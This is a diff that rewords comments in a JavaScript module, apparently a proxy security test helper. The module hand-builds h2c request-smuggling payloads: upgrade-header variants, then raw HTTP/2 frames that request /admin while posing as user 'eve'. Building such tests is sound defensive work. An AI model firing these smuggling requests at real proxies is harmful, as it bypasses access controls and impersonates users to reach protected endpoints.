@@ -1,5 +1,5 @@
-// HTTP/2 in clear text (h2c), which a client asks an application for through a proxy that hands any Upgrade on. Frames
-// are made by hand, since a client of Node.js begins no session in the middle of a connection.
+// HTTP/2 in clear text (h2c), which a client requests from an app through a proxy that passes any Upgrade on. Frames are
+// built by hand, since Node.js's client can't begin a session in the middle of a connection.
 
 const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
 const [HEADERS, SETTINGS] = [1, 4];
@@ -7,7 +7,7 @@ const END_OF_STREAM_AND_HEADERS = 5;
 
 const WISH = "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA";
 
-/** Heads that would have an application speak HTTP/2, or that a reader of lists could take for such a wish. */
+/** Header lines that request HTTP/2 from an app, or that a parser of lists could read as such a request. */
 export const UPGRADES = [
   ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", WISH],
   ["Connection: Upgrade", "Upgrade: h2c", WISH],
@@ -25,8 +25,8 @@ export const UPGRADES = [
 ];
 
 /**
- * Sends a head with these lines, for a public page unless said, then HTTP/2 behind it that asks for /admin as Eve.
- * Gives all that came back until the other side closed, or said nothing more.
+ * Sends a request with these header lines, by default for a public page, followed by an HTTP/2 request for /admin as
+ * Eve. Returns everything received until the other side closes or stops sending.
  */
 export function smuggle(connect, host, lines, requestLine = "GET /public/x HTTP/1.1") {
   const asked = { ":method": "GET", ":scheme": "http", ":authority": host, ":path": "/admin", "remote-user": "eve" };
@@ -36,14 +36,14 @@ export function smuggle(connect, host, lines, requestLine = "GET /public/x HTTP/
   ]);
 }
 
-/** HTTP/2 from the first byte on, to a proxy that was not asked for it (prior knowledge). */
+/** HTTP/2 from the first byte on, without an upgrade (prior knowledge). */
 export function withPriorKnowledge(connect, host, path, user) {
   const asked = { ":method": "GET", ":scheme": "http", ":authority": host, ":path": path, "remote-user": user };
   const stream = frame(HEADERS, END_OF_STREAM_AND_HEADERS, 1, fields(asked));
   return converse(connect, [Buffer.concat([PREFACE, frame(SETTINGS, 0, 0), stream])]);
 }
 
-/** Writes each part once something came back for the one before. */
+/** Writes each part after an answer to the previous one. */
 function converse(connect, parts) {
   return new Promise((done) => {
     const waiting = [...parts];
@@ -69,7 +69,7 @@ function frame(kind, flags, stream, payload = Buffer.alloc(0)) {
   return Buffer.concat([head, payload]);
 }
 
-/** Each as HPACK's "literal header field never indexed, new name". */
+/** Encodes each as HPACK's "literal header field never indexed, new name". */
 function fields(of) {
   const text = (value) => [Buffer.from([value.length]), Buffer.from(value, "latin1")];
   return Buffer.concat(Object.entries(of).flatMap(([name, value]) => [Buffer.from([0x10]), ...text(name), ...text(value)]));
